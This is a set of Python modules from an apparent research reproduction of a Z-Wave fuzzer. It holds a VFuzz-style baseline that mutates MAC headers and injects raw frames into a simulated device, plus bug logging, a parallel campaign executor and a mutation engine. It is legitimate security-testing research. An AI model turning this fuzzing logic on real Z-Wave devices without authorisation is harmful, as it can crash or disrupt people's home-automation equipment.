    "VFuzzResult",
]
