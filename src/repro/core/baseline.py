"""The VFuzz-style baseline (Section IV-C, Table V).

VFuzz (Nkuba et al., IEEE Access 2022) is a protocol-aware MAC-frame fuzzer
for Z-Wave devices.  The comparison baseline reproduces its operating
characteristics as the paper describes them:

* it seeds from **sniffed frames already addressed to the target** and
  mutates the MAC header fields aggressively (it "focuses on the MAC frame
  of the Z-Wave packets"), recomputing the checksum so frames pass the
  integrity check;
* it sweeps the **whole 256 x 256 CMDCL x CMD space** (Table V's coverage
  row) by cycling the two application bytes in place — never changing the
  payload *length*;
* consequence one: most of its packets break the home-id / length /
  destination checks and are rejected, so its application-layer testing
  throughput is a sliver of ZCover's;
* consequence two: header mutations reach the MAC-parsing one-days
  (:data:`repro.simulator.vulnerabilities.DEVICE_MAC_QUIRKS`) that ZCover's
  application-layer-only mutation never touches — reproducing the paper's
  observation that the two tools' finding sets are disjoint.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional, Set, Tuple

from ..errors import FuzzerError
from ..obs.metrics import MetricsCollector, MetricsSnapshot, collecting
from ..simulator.testbed import SystemUnderTest
from ..zwave.checksum import cs8
from .monitor import LivenessMonitor, SutObserver

#: Per-field mutation probabilities: the MAC-fuzzer design centre.
P_MUTATE_HOME_BYTE = 0.7
P_MUTATE_SRC = 0.5
P_MUTATE_P1 = 0.5
P_MUTATE_P2 = 0.5
P_MUTATE_LEN = 0.7
P_MUTATE_DST = 0.7


@dataclass(frozen=True)
class VFuzzConfig:
    """Engine knobs for the baseline."""

    packet_period: float = 0.75
    settle_time: float = 0.1
    ping_timeout: float = 0.5
    recovery_time: float = 2.0
    seed_capture_duration: float = 120.0


@dataclass
class VFuzzResult:
    """What a VFuzz trial produced."""

    packets_sent: int = 0
    duration: float = 0.0
    accepted_estimate: int = 0
    quirks_found: List[str] = field(default_factory=list)
    zero_day_payloads: List[bytes] = field(default_factory=list)
    cmdcls_used: Set[int] = field(default_factory=set)
    cmds_used: Set[int] = field(default_factory=set)
    detections: List[Tuple[float, int]] = field(default_factory=list)
    metrics: Optional[MetricsSnapshot] = None

    @property
    def cmdcl_coverage(self) -> int:
        return len(self.cmdcls_used)

    @property
    def cmd_coverage(self) -> int:
        return len(self.cmds_used)

    @property
    def unique_vulnerabilities(self) -> int:
        """The "#Vul." Table V credits to VFuzz: distinct verified bugs.

        MAC quirks are triaged by their distinct crash signatures; any
        application-layer finding would be counted through its payload.
        """
        return len(set(self.quirks_found)) + len(
            {bytes(p[:2]) for p in self.zero_day_payloads}
        )


class VFuzzBaseline:
    """Runs the VFuzz-style MAC-frame fuzzing loop against one SUT."""

    def __init__(
        self,
        sut: SystemUnderTest,
        config: Optional[VFuzzConfig] = None,
        seed: int = 0,
    ):
        self._sut = sut
        self._clock = sut.clock
        self.config = config or VFuzzConfig()
        self._rng = random.Random(seed)
        self._monitor = LivenessMonitor(
            sut.dongle,
            sut.clock,
            sut.profile.home_id,
            sut.controller.node_id,
            timeout=self.config.ping_timeout,
        )
        self._observer = SutObserver(sut, recovery_time=self.config.recovery_time)
        self._seeds: List[bytes] = []

    # -- seeding --------------------------------------------------------------------

    def collect_seeds(self) -> int:
        """Sniff the network and keep plaintext templates for the target.

        Seeds are short, decodable data frames already addressed to the
        controller (device status reports).  S0/S2 encapsulations are
        skipped: an opaque encrypted blob gives a MAC fuzzer nothing to
        model, so VFuzz's generation works from plaintext templates.
        """
        self._sut.dongle.clear_captures()
        self._clock.advance(self.config.seed_capture_duration)
        target = self._sut.controller.node_id
        for capture in self._sut.dongle.drain_captures():
            frame = capture.frame
            if frame is None or frame.is_ack or not frame.payload:
                continue
            if frame.dst != target:
                continue
            if frame.payload[0] in (0x98, 0x9F) or len(frame.payload) > 4:
                continue
            self._seeds.append(capture.raw)
        return len(self._seeds)

    # -- mutation ---------------------------------------------------------------------

    def _mutate(self, seed: bytes, cmdcl: int, cmd: int) -> bytes:
        """One VFuzz test frame: cycle the APL bytes, batter the header."""
        raw = bytearray(seed)
        for i in range(4):
            if self._rng.random() < P_MUTATE_HOME_BYTE:
                raw[i] = self._rng.randrange(256)
        if self._rng.random() < P_MUTATE_SRC:
            raw[4] = self._rng.randrange(256)
        if self._rng.random() < P_MUTATE_P1:
            raw[5] = self._rng.randrange(256)
        if self._rng.random() < P_MUTATE_P2:
            raw[6] = self._rng.randrange(256)
        if self._rng.random() < P_MUTATE_LEN:
            raw[7] = self._rng.randrange(256)
        if self._rng.random() < P_MUTATE_DST:
            raw[8] = self._rng.randrange(256)
        if len(raw) >= 11:
            raw[9] = cmdcl
            raw[10] = cmd
        raw[-1] = cs8(raw[:-1])  # protocol-aware: recompute the checksum
        return bytes(raw)

    def _would_be_accepted(self, raw: bytes) -> bool:
        """Bookkeeping mirror of the target's MAC filters (for reporting)."""
        controller = self._sut.controller
        return (
            int.from_bytes(raw[0:4], "big") == controller.home_id
            and raw[7] == len(raw)
            and raw[8] in (controller.node_id, 0xFF)
        )

    # -- the loop -----------------------------------------------------------------------

    def run(self, duration: float) -> VFuzzResult:
        """Fuzz for *duration* simulated seconds."""
        if not self._seeds and self.collect_seeds() == 0:
            raise FuzzerError("VFuzz heard no traffic to seed from")
        result = VFuzzResult()
        collector = MetricsCollector()
        start = self._clock.now
        deadline = start + duration
        index = 0
        seen_quirks: Set[str] = set()
        baseline_events = len(self._sut.controller.events())
        with collecting(collector):
            while self._clock.now < deadline:
                test_start = self._clock.now
                # Sweep the full 256 x 256 CMDCL x CMD space (Table V), with
                # the command class varying fastest so both dimensions reach
                # full coverage early in the trial.
                cmdcl = index & 0xFF
                cmd = (index + (index >> 8)) & 0xFF
                index += 1
                seed = self._seeds[index % len(self._seeds)]
                raw = self._mutate(seed, cmdcl, cmd)
                result.cmdcls_used.add(cmdcl)
                result.cmds_used.add(cmd)
                if self._would_be_accepted(raw):
                    result.accepted_estimate += 1
                collector.inc("vfuzz.frames_tx")
                self._sut.dongle.inject_raw(raw)
                self._clock.advance(self.config.settle_time)
                result.packets_sent += 1
                self._check_oracles(result, seen_quirks, baseline_events, start)
                baseline_events = len(self._sut.controller.events())
                remaining = self.config.packet_period - (self._clock.now - test_start)
                if remaining > 0:
                    self._clock.advance(remaining)
            collector.inc("vfuzz.accepted_estimate", result.accepted_estimate)
            collector.inc("vfuzz.findings", result.unique_vulnerabilities)
        result.duration = self._clock.now - start
        collector.gauge_max("vfuzz.duration_s", result.duration)
        result.metrics = collector.snapshot()
        return result

    def _check_oracles(
        self,
        result: VFuzzResult,
        seen_quirks: Set[str],
        baseline_events: int,
        start: float,
    ) -> None:
        memory_kind, _ = self._observer.check_memory()
        host_kind = self._observer.check_host()
        unresponsive = False
        if memory_kind is None and host_kind is None:
            unresponsive = not self._monitor.ping() and not self._monitor.ping()
        if memory_kind is None and host_kind is None and not unresponsive:
            return
        # Something fired: attribute it through the firmware event log (the
        # paper's manual post-hoc triage with vendor confirmation).
        new_events = self._sut.controller.events()[baseline_events:]
        for event in new_events:
            if event.quirk_id is not None:
                if event.quirk_id not in seen_quirks:
                    seen_quirks.add(event.quirk_id)
                    result.quirks_found.append(event.quirk_id)
                    result.detections.append(
                        (self._clock.now - start, result.packets_sent)
                    )
            elif event.bug_id is not None:
                result.zero_day_payloads.append(bytes(event.payload))
                result.detections.append(
                    (self._clock.now - start, result.packets_sent)
                )
        # Recover so the trial keeps going.
        if unresponsive:
            self._observer.power_cycle()
        if memory_kind is not None:
            self._observer.restore_memory()
        if host_kind is not None:
            self._observer.restart_host()
