"""Bug logging: the ``Bug_Logs`` output of Algorithm 1.

Every bug-inducing packet is recorded with its timestamp, packet number and
observed effect, and can be persisted to / reloaded from a JSON-lines log
file for later replay by the packet tester — the paper's "Log Packet into
Bug_Logs ... Save Bug_Logs to file for future analysis".
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Iterator, List, Optional, Tuple, Union

from .monitor import ObservedKind


@dataclass(frozen=True)
class BugRecord:
    """One bug-inducing packet as logged during fuzzing."""

    timestamp: float
    packet_no: int
    cmdcl: int
    cmd: Optional[int]
    payload_hex: str
    observed: str  # ObservedKind value

    @property
    def payload(self) -> bytes:
        return bytes.fromhex(self.payload_hex)

    @property
    def observed_kind(self) -> ObservedKind:
        return ObservedKind(self.observed)

    @classmethod
    def from_payload(
        cls,
        timestamp: float,
        packet_no: int,
        payload: bytes,
        observed: ObservedKind,
    ) -> "BugRecord":
        return cls(
            timestamp=timestamp,
            packet_no=packet_no,
            cmdcl=payload[0] if payload else -1,
            cmd=payload[1] if len(payload) >= 2 else None,
            payload_hex=payload.hex(),
            observed=observed.value,
        )


class BugLog:
    """An append-only collection of :class:`BugRecord` entries."""

    def __init__(self, records: Optional[List[BugRecord]] = None):
        self._records: List[BugRecord] = list(records or [])

    def __len__(self) -> int:
        return len(self._records)

    def __iter__(self) -> Iterator[BugRecord]:
        return iter(self._records)

    def __eq__(self, other: object) -> bool:
        # Value equality (not identity) so whole campaign results can be
        # compared across process boundaries and serialisation round trips.
        if not isinstance(other, BugLog):
            return NotImplemented
        return self._records == other._records

    def __repr__(self) -> str:
        return f"BugLog({len(self._records)} records)"

    def add(self, record: BugRecord) -> None:
        self._records.append(record)

    def records(self) -> List[BugRecord]:
        return list(self._records)

    def coarse_groups(self) -> List[Tuple[int, Optional[int], str]]:
        """Distinct (cmdcl, cmd, observed) triples, in first-seen order.

        The packet tester verifies one representative payload per group;
        final deduplication happens on verified signatures.
        """
        seen = {}
        for record in self._records:
            key = (record.cmdcl, record.cmd, record.observed)
            seen.setdefault(key, record)
        return list(seen)

    def first_record(self, cmdcl: int, cmd: Optional[int], observed: str) -> Optional[BugRecord]:
        for record in self._records:
            if (record.cmdcl, record.cmd, record.observed) == (cmdcl, cmd, observed):
                return record
        return None

    # -- persistence -------------------------------------------------------------

    def save(self, path: Union[str, Path]) -> None:
        """Write the log as JSON lines."""
        path = Path(path)
        with path.open("w", encoding="utf-8") as handle:
            for record in self._records:
                handle.write(json.dumps(asdict(record)) + "\n")

    @classmethod
    def load(cls, path: Union[str, Path]) -> "BugLog":
        """Reload a previously saved log."""
        records = []
        with Path(path).open("r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if line:
                    records.append(BugRecord(**json.loads(line)))
        return cls(records)
