"""Process-pool campaign execution: shard trials across CPU cores.

The paper's evaluation is embarrassingly parallel — five independent
trials per controller, nine controllers, three ablation modes — and every
campaign is a pure function of ``(device, mode, duration, seed)`` (see
``docs/architecture.md`` §Determinism).  This module exploits that: a
campaign *unit* is a small picklable spec, each worker process builds its
own testbed from the spec, and the parent reassembles results in canonical
submission order, so parallel output is byte-identical to a serial run.

Robustness model:

* each unit gets up to ``1 + retries`` attempts;
* a worker that raises, dies (``BrokenProcessPool``) or exceeds the
  per-unit *timeout* fails only its own unit for that round — units that
  were collateral damage of a pool breakage are retried too;
* the retry round runs each remaining unit in its **own** single-worker
  pool, so one persistently crashing unit cannot take healthy retries
  down with it;
* a unit that exhausts its attempts surfaces as a structured
  :class:`UnitFailure` in the merged output instead of an exception, so
  one bad shard never discards the others' results.

Workers return results in the :mod:`repro.core.resultio` wire form (plain
JSON-safe data), never live simulator objects, so nothing heavyweight —
in particular no :class:`~repro.zwave.registry.SpecRegistry` — crosses a
process boundary.

Fault injection rides the unit itself: ``fault`` carries a
:mod:`repro.faults.worker` token ("raise", "exit", "hang:<s>", ...)
applied inside the worker before the campaign starts, and
``fault_plan_json`` a serialised :class:`~repro.faults.plan.FaultPlan`
the worker compiles against the unit's seed for in-simulation faults.
Both are ``None`` in production campaigns.  Retry rounds can be spaced
by a seeded :class:`~repro.faults.resilience.BackoffPolicy`.
"""

from __future__ import annotations

import os
import time
import traceback
from concurrent.futures import Future, ProcessPoolExecutor, TimeoutError as FutureTimeout
from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Sequence

from ..errors import CampaignError
from ..faults.resilience import BackoffPolicy, backoff_delays
from ..faults.worker import apply_worker_fault
from ..obs import metrics as obs
from .campaign import Mode, run_campaign

#: Failure categories recorded on :class:`UnitFailure`.
FAILURE_EXCEPTION = "exception"
FAILURE_CRASH = "worker-crash"
FAILURE_TIMEOUT = "timeout"


class ExecutionInterrupted(BaseException):
    """A graceful drain finished: in-flight units were flushed first.

    Raised instead of letting a raw ``KeyboardInterrupt`` (Ctrl-C, or the
    SIGTERM handler the job service installs) tear the executor mid-unit.
    ``outcomes`` carries **every** unit's :class:`UnitOutcome` in
    canonical order — completed units hold their results, undone units
    hold neither result nor failure — so callers (the service checkpoint
    above all) can persist the completed prefix before exiting.

    Derives from ``BaseException`` like the interrupt it replaces, so
    generic ``except Exception`` recovery paths cannot swallow it.
    """

    def __init__(self, outcomes: "List[UnitOutcome]"):
        done = sum(1 for o in outcomes if o.result is not None)
        super().__init__(f"interrupted after {done} completed unit(s)")
        self.outcomes = outcomes


@dataclass(frozen=True)
class CampaignUnit:
    """One picklable shard of a campaign: everything a worker needs.

    ``kind`` selects the fuzzer ("zcover" runs :func:`run_campaign`,
    "vfuzz" the Table V baseline).  The unit carries only plain values —
    the worker rebuilds its testbed and registries locally.
    """

    device: str = "D1"
    mode: Mode = Mode.FULL
    duration: float = 3600.0
    seed: int = 0
    kind: str = "zcover"
    queue_strategy: str = "priority"
    passive_duration: float = 120.0
    verify: bool = True
    #: PSM window scheduler ("static" or "coverage"); part of the unit
    #: identity because it changes every downstream byte.
    scheduler: str = "static"
    #: Worker-layer fault token (see :mod:`repro.faults.worker`, e.g.
    #: "raise", "exit", "raise-once:<path>", "hang:<seconds>"); None in
    #: production.
    fault: Optional[str] = None
    #: Serialised :class:`~repro.faults.plan.FaultPlan` for in-simulation
    #: fault injection (JSON string — keeps the unit hashable and
    #: picklable); None in production.
    fault_plan_json: Optional[str] = None
    #: Session flow name (kind "sessions" only): each flow is its own
    #: shard, so per-flow results merge in canonical flow order.
    flow: str = ""
    #: Serialised :class:`~repro.core.session.SessionPlan` (kind
    #: "sessions" only); None means the stock plan.
    session_plan_json: Optional[str] = None

    def label(self) -> str:
        if self.kind == "sessions":
            return f"{self.kind}:{self.device}:{self.flow}:seed={self.seed}"
        suffix = "" if self.scheduler == "static" else f":{self.scheduler}"
        return f"{self.kind}:{self.device}:{self.mode.name}:seed={self.seed}{suffix}"


@dataclass(frozen=True)
class UnitFailure:
    """A shard that exhausted its attempts, as surfaced in merged output."""

    unit: CampaignUnit
    category: str  # one of FAILURE_EXCEPTION / FAILURE_CRASH / FAILURE_TIMEOUT
    error: str
    attempts: int

    def render(self) -> str:
        first_line = self.error.strip().splitlines()[-1] if self.error else ""
        return (
            f"FAILED {self.unit.label()} after {self.attempts} attempt(s) "
            f"[{self.category}]: {first_line}"
        )


@dataclass
class UnitOutcome:
    """Final state of one unit: a result or a structured failure."""

    unit: CampaignUnit
    result: Optional[Any] = None
    failure: Optional[UnitFailure] = None
    attempts: int = 0


# -- worker side ---------------------------------------------------------------


def execute_unit(unit: CampaignUnit) -> Any:
    """Run one unit in-process and return the live result object.

    This is the serial path — exactly what the pre-parallel code did,
    modulo fault injection.  The determinism suite compares its output
    against the pooled (wire round-tripped) path to prove the codec is
    lossless.
    """
    apply_worker_fault(unit.fault)
    fault_plan = None
    if unit.fault_plan_json is not None:
        from ..faults.plan import loads_plan

        fault_plan = loads_plan(unit.fault_plan_json)
    if unit.kind == "zcover":
        return run_campaign(
            device=unit.device,
            mode=unit.mode,
            duration=unit.duration,
            seed=unit.seed,
            passive_duration=unit.passive_duration,
            verify=unit.verify,
            queue_strategy=unit.queue_strategy,
            fault_plan=fault_plan,
            scheduler=unit.scheduler,
        )
    if unit.kind == "vfuzz":
        from ..simulator.testbed import build_sut
        from .baseline import VFuzzBaseline

        sut = build_sut(unit.device, seed=unit.seed)
        return VFuzzBaseline(sut, seed=unit.seed).run(unit.duration)
    if unit.kind == "sessions":
        from .session import loads_session_plan, run_session_flow

        session_plan = (
            None
            if unit.session_plan_json is None
            else loads_session_plan(unit.session_plan_json)
        )
        return run_session_flow(
            device=unit.device, flow=unit.flow, seed=unit.seed, plan=session_plan
        )
    raise CampaignError(f"unknown campaign-unit kind {unit.kind!r}")


def execute_unit_to_wire(unit: CampaignUnit) -> dict:
    """Worker entry point: run one unit, return its wire-form result."""
    from .resultio import campaign_to_wire, session_to_wire, vfuzz_to_wire

    result = execute_unit(unit)
    if unit.kind == "vfuzz":
        return vfuzz_to_wire(result)
    if unit.kind == "sessions":
        return session_to_wire(result)
    return campaign_to_wire(result)


def execute_unit_to_shm_wire(unit: CampaignUnit) -> dict:
    """Worker entry for pooled rounds: large wire results ride shared memory.

    Identical to :func:`execute_unit_to_wire` except the resulting wire
    dict is staged in a shared-memory segment when big enough (see
    :func:`repro.core.resultio.wire_to_shm_token`), so the pool's result
    channel carries a tiny claim token instead of pickling a multi-
    kilobyte campaign document through a pipe.  Harvest sites resolve the
    token with :func:`repro.core.resultio.claim_wire`.
    """
    from .resultio import wire_to_shm_token

    return wire_to_shm_token(execute_unit_to_wire(unit))


def _discard_late_wire(future: Any) -> None:
    """Done-callback for abandoned futures: unlink a late shm segment.

    A unit that times out is failed immediately, but the worker may still
    finish and stage its result in shared memory; nobody will ever claim
    that token, so this callback releases the segment the moment the late
    future resolves.
    """
    from .resultio import discard_wire_token

    try:
        discard_wire_token(future.result(timeout=0))
    except BaseException:
        pass


def _rehydrate(unit: CampaignUnit, wire: dict) -> Any:
    from .resultio import campaign_from_wire, session_from_wire, vfuzz_from_wire

    if unit.kind == "vfuzz":
        return vfuzz_from_wire(wire)
    if unit.kind == "sessions":
        return session_from_wire(wire)
    return campaign_from_wire(wire)


# -- parent side ---------------------------------------------------------------


def outcomes_harness_snapshot(outcomes: Sequence[UnitOutcome]) -> Any:
    """Executor metrics for a finished batch: units, retries, failures."""
    from ..obs.metrics import harness_snapshot

    return harness_snapshot(
        units=len(outcomes),
        attempts=[outcome.attempts for outcome in outcomes],
        failure_categories=[
            outcome.failure.category
            for outcome in outcomes
            if outcome.failure is not None
        ],
    )


def resolve_workers(workers: Optional[int]) -> int:
    """Resolve a worker request: 0/None mean one worker per CPU core.

    An explicit positive count is honoured verbatim (even beyond the core
    count — oversubscription is the caller's call); the executor still
    never starts more workers than it has units.
    """
    if workers is None or workers <= 0:
        return os.cpu_count() or 1
    return workers


def parallel_supported() -> bool:
    """Whether this platform can run a process pool at all.

    ``ProcessPoolExecutor`` needs working multiprocessing synchronisation
    primitives; some minimal containers ship Python without them, in which
    case every parallel request silently degrades to the serial path.
    """
    try:
        import multiprocessing.synchronize  # noqa: F401
    except ImportError:
        return False
    return True


def _retry_delays(
    backoff: Optional[BackoffPolicy], retries: int
) -> tuple:
    """The planned (deterministic) spacing before each retry round."""
    if backoff is None or retries <= 0:
        return (0.0,) * max(retries, 0)
    delays = backoff_delays(backoff, retries)
    obs.inc("parallel.backoff_planned_ms", int(sum(delays) * 1000))
    return delays


def _run_serial(
    units: Sequence[CampaignUnit],
    retries: int,
    backoff: Optional[BackoffPolicy] = None,
) -> List[UnitOutcome]:
    delays = _retry_delays(backoff, retries)
    outcomes = [UnitOutcome(unit=unit) for unit in units]
    for outcome in outcomes:
        unit = outcome.unit
        for attempt in range(1, retries + 2):
            outcome.attempts = attempt
            if attempt > 1 and delays[attempt - 2] > 0.0:
                time.sleep(delays[attempt - 2])
            try:
                outcome.result = execute_unit(unit)
                outcome.failure = None
                break
            except KeyboardInterrupt:
                # Graceful drain, serial flavour: the interrupt landed
                # inside the current unit, which is lost by definition —
                # flush the completed prefix so the caller can persist it.
                raise ExecutionInterrupted(outcomes) from None
            except Exception:
                outcome.failure = UnitFailure(
                    unit=unit,
                    category=FAILURE_EXCEPTION,
                    error=traceback.format_exc(),
                    attempts=attempt,
                )
    return outcomes


def _drain_round(
    pool: ProcessPoolExecutor,
    pending: Dict[int, UnitOutcome],
    futures: Dict[int, Any],
) -> None:
    """Graceful drain: let in-flight units finish, harvest their results.

    Called when an interrupt lands mid-round.  Queued-but-unstarted
    futures are cancelled; futures already executing run to completion
    (``shutdown(wait=True)`` blocks on them), and every finished result
    is flushed into its outcome so the caller's checkpoint sees each
    completed unit exactly once — never a torn one.
    """
    from .resultio import claim_wire

    for future in futures.values():
        future.cancel()
    pool.shutdown(wait=True, cancel_futures=True)
    for index, future in futures.items():
        if index not in pending or not future.done() or future.cancelled():
            continue
        try:
            wire = claim_wire(future.result(timeout=0))
        except BaseException:
            continue  # the unit failed while draining; retry accounting keeps it
        outcome = pending[index]
        outcome.result = _rehydrate(outcome.unit, wire)
        outcome.failure = None
        del pending[index]


def _collect_round(
    pool: ProcessPoolExecutor,
    pending: Dict[int, UnitOutcome],
    timeout: Optional[float],
) -> None:
    """Submit every pending unit to *pool* and harvest results/failures.

    Mutates the outcomes in place; entries that got a result are removed
    from *pending*.  A broken pool fails every still-unresolved future for
    this round (they all keep their retry budget).  A ``KeyboardInterrupt``
    during the harvest triggers the graceful drain (in-flight units finish
    and flush) before the interrupt propagates.
    """
    from .resultio import claim_wire

    futures = {}
    for index, outcome in pending.items():
        outcome.attempts += 1
        futures[index] = pool.submit(execute_unit_to_shm_wire, outcome.unit)
    for index, future in futures.items():
        outcome = pending[index]
        try:
            wire = claim_wire(future.result(timeout=timeout))
        except FutureTimeout:
            future.cancel()
            future.add_done_callback(_discard_late_wire)
            outcome.failure = UnitFailure(
                unit=outcome.unit,
                category=FAILURE_TIMEOUT,
                error=f"no result within {timeout}s",
                attempts=outcome.attempts,
            )
            continue
        except KeyboardInterrupt:
            _drain_round(pool, pending, futures)
            raise
        except BaseException as exc:  # worker raise, pool breakage, cancel
            crashed = type(exc).__name__ in ("BrokenProcessPool", "BrokenExecutor")
            outcome.failure = UnitFailure(
                unit=outcome.unit,
                category=FAILURE_CRASH if crashed else FAILURE_EXCEPTION,
                error="".join(
                    traceback.format_exception_only(type(exc), exc)
                ).strip(),
                attempts=outcome.attempts,
            )
            continue
        outcome.result = _rehydrate(outcome.unit, wire)
        outcome.failure = None
        del pending[index]


def execute_units(
    units: Sequence[CampaignUnit],
    workers: int = 1,
    timeout: Optional[float] = None,
    retries: int = 1,
    backoff: Optional[BackoffPolicy] = None,
    pool: "Optional[WorkerPool]" = None,
) -> List[UnitOutcome]:
    """Run *units*, sharded over *workers* processes, in canonical order.

    Returns one :class:`UnitOutcome` per unit **in the input order**,
    regardless of which worker finished first — the caller's merge step
    (:func:`repro.core.resultio.merge_trials`) depends on this.

    ``workers <= 1`` — or a platform without multiprocessing support —
    runs everything serially in-process.  *timeout* bounds the wall-clock
    wait for each unit's result per attempt; *retries* is the number of
    extra attempts a failing unit gets before its failure is surfaced.
    *backoff* spaces the retry rounds with seeded-jitter delays (see
    :mod:`repro.faults.resilience`) instead of immediate resubmission;
    the delay sequence is pure in the policy, never in wall clock.

    With *pool* (a :class:`WorkerPool`) the first round runs on that
    persistent executor instead of a freshly spawned one, and the pool is
    left running afterwards — the job service keeps one pool across every
    job it executes.  Retry rounds still isolate each surviving unit in
    its own single-worker pool, so a persistently crashing shard can
    never break the shared pool for its neighbours.

    A ``KeyboardInterrupt`` (Ctrl-C, or SIGTERM routed through a handler)
    no longer tears the round down mid-unit: in-flight units finish,
    their results are flushed, and :class:`ExecutionInterrupted` carries
    every outcome so callers can persist the completed prefix.
    """
    if pool is not None and pool.executor is not None:
        outcomes = [UnitOutcome(unit=unit) for unit in units]
        pending: Dict[int, UnitOutcome] = dict(enumerate(outcomes))
        try:
            _collect_round(pool.executor, pending, timeout)
        except KeyboardInterrupt:
            raise ExecutionInterrupted(outcomes) from None
        _retry_in_isolation(pending, timeout, retries, backoff)
        return outcomes

    if workers <= 1 or len(units) <= 1 or not parallel_supported():
        return _run_serial(units, retries, backoff)

    outcomes = [UnitOutcome(unit=unit) for unit in units]
    pending = dict(enumerate(outcomes))
    pool_size = min(resolve_workers(workers), len(units))

    try:
        round_pool = ProcessPoolExecutor(max_workers=pool_size)
    except (OSError, ImportError, NotImplementedError):
        return _run_serial(units, retries, backoff)
    try:
        _collect_round(round_pool, pending, timeout)
    except KeyboardInterrupt:
        raise ExecutionInterrupted(outcomes) from None
    finally:
        round_pool.shutdown(wait=False, cancel_futures=True)

    _retry_in_isolation(pending, timeout, retries, backoff)
    return outcomes


def _retry_in_isolation(
    pending: Dict[int, UnitOutcome],
    timeout: Optional[float],
    retries: int,
    backoff: Optional[BackoffPolicy],
) -> None:
    """Retry rounds: each surviving unit in its own single-worker pool.

    Isolation means one persistently crashing unit cannot take healthy
    retries (or a caller's persistent pool) down with it.
    """
    delays = _retry_delays(backoff, retries)
    for round_index in range(retries):
        if not pending:
            break
        if delays[round_index] > 0.0:
            time.sleep(delays[round_index])
        for index in list(pending):
            retry_pool = ProcessPoolExecutor(max_workers=1)
            try:
                _collect_round(retry_pool, {index: pending[index]}, timeout)
            finally:
                retry_pool.shutdown(wait=False, cancel_futures=True)
            if index in pending and pending[index].result is not None:
                del pending[index]


class WorkerPool:
    """A persistent process pool the job service reuses across jobs.

    ``execute_units`` historically spawned (and tore down) one
    ``ProcessPoolExecutor`` per batch; a long-lived service would pay
    that interpreter-spawn cost on every submitted job.  A ``WorkerPool``
    owns the executor for the whole service lifetime: pass it to
    :func:`execute_units` (``pool=``) or submit single units with
    :meth:`submit` (the asyncio service awaits those futures directly).

    On platforms without multiprocessing support ``executor`` is ``None``
    and callers fall back to in-process execution — the same degradation
    :func:`execute_units` applies.  Unlike the batch path, a pool is
    spawned even for ``workers=1``: a service wants submission to return
    immediately (the single worker process runs the unit) rather than
    execute inline and block its event loop.
    """

    def __init__(self, workers: int = 1):
        self.workers = resolve_workers(workers)
        self.executor: Optional[ProcessPoolExecutor] = None
        if parallel_supported():
            try:
                self.executor = ProcessPoolExecutor(max_workers=self.workers)
            except (OSError, ImportError, NotImplementedError):
                self.executor = None

    def submit(self, unit: CampaignUnit):
        """Submit one unit; returns a future resolving to its wire form.

        Falls back to synchronous in-process execution (an already-
        resolved future) when the platform has no process pool.
        """
        if self.executor is None:
            future: Future = Future()
            try:
                future.set_result(execute_unit_to_wire(unit))
            except BaseException as exc:  # surfaced at result() like a pool would
                future.set_exception(exc)
            return future
        return self.executor.submit(execute_unit_to_wire, unit)

    def drain(self, wait: bool = True) -> None:
        """Shut the executor down; ``wait=True`` lets in-flight units finish."""
        if self.executor is not None:
            self.executor.shutdown(wait=wait, cancel_futures=True)
            self.executor = None

    def __enter__(self) -> "WorkerPool":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.drain(wait=exc_type is None)
