"""Phase 3 — position-sensitive mutation (Section III-D, Table I).

The mutator understands the Figure 6 hierarchy: the CMDCL at position 0 is
only ever replaced with *valid* (supported) classes, the CMD at position 1
and the PARAMs at positions 2..n receive the full operator set of Table I
(rand valid / rand invalid / arith / interesting / insert), and the MAC
header fields receive **no** mutation at all — the input-space reduction
the paper motivates with the 2^512 argument.

Generation for one command class proceeds in stages so that bug-bearing
payloads appear early in a fuzzing window:

0. the Algorithm-1 seed ``[CMDCL, 0x00, 0x00]``;
1. a fully valid build of every defined command (semantic mutation);
2. per-command variants, round-robin interleaved across commands —
   semantic enum cycling first, then boundary values, then illegal and
   interesting values, then length boundaries (truncations/inserts);
3. an undefined-command sweep over a fixed identifier range;
4. an endless random tail for long campaigns.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from enum import Enum
from typing import Dict, Iterable, Iterator, Optional, Tuple

from ..obs import metrics as obs
from ..zwave.application import ApplicationPayload, build_valid_payload
from ..zwave.cmdclass import Command, CommandClass, ParamKind
from ..zwave.registry import SpecRegistry


def static_priority_key(registry: SpecRegistry, cmdcl: int) -> Tuple[int, int]:
    """The explicit, total static-priority sort key for one CMDCL.

    Richer classes (more defined commands) come first; classes sharing a
    command count break the tie on ascending class identifier.  The key
    is total — no two distinct CMDCLs compare equal — so the resulting
    order can never fall back to dict/set iteration order, which Python
    does not guarantee across insertion histories.
    """
    return (-registry.command_count(cmdcl), cmdcl)


def prioritize_static(registry: SpecRegistry, cmdcls: Iterable[int]) -> Tuple[int, ...]:
    """Order *cmdcls* by the static fuzzing priority of Section III-C.

    Known classes sort by :func:`static_priority_key`; schema-less
    classes follow, by ascending identifier.  This is the single ordering
    every static campaign queue flows through — the seeded tie-break
    regression test in ``tests/test_scheduler_properties.py`` pins it.
    """
    known = sorted(
        (c for c in cmdcls if registry.get(c) is not None),
        key=lambda c: static_priority_key(registry, c),
    )
    unknown = sorted(c for c in cmdcls if registry.get(c) is None)
    return tuple(known + unknown)


class MutationOperator(Enum):
    """Operators of Table I (plus the boundary-testing length operators)."""

    SEED = "seed"
    RAND_VALID = "rand_valid"
    RAND_INVALID = "rand_invalid"
    ARITH = "arith"
    INTERESTING = "interesting"
    INSERT = "insert"
    TRUNCATE = "truncate"
    RANDOM = "random"
    CORPUS = "corpus"


#: Table I verbatim: which operators apply to which Z-Wave frame field.
FIELD_OPERATORS = {
    "H-ID": (),
    "SRC": (),
    "P1": (),
    "P2": (),
    "LEN": (),
    "DST": (),
    "CMDCL": (MutationOperator.RAND_VALID,),
    "CMD": (
        MutationOperator.RAND_VALID,
        MutationOperator.RAND_INVALID,
        MutationOperator.ARITH,
        MutationOperator.INTERESTING,
        MutationOperator.INSERT,
    ),
    "PARAM": (
        MutationOperator.RAND_VALID,
        MutationOperator.RAND_INVALID,
        MutationOperator.ARITH,
        MutationOperator.INTERESTING,
        MutationOperator.INSERT,
    ),
    "CS": (),
}

#: Classic boundary-adjacent byte values.
INTERESTING_VALUES: Tuple[int, ...] = (0x00, 0x01, 0x7F, 0x80, 0xFE, 0xFF)

#: Undefined-command sweep range shared by all classes (27 identifiers).
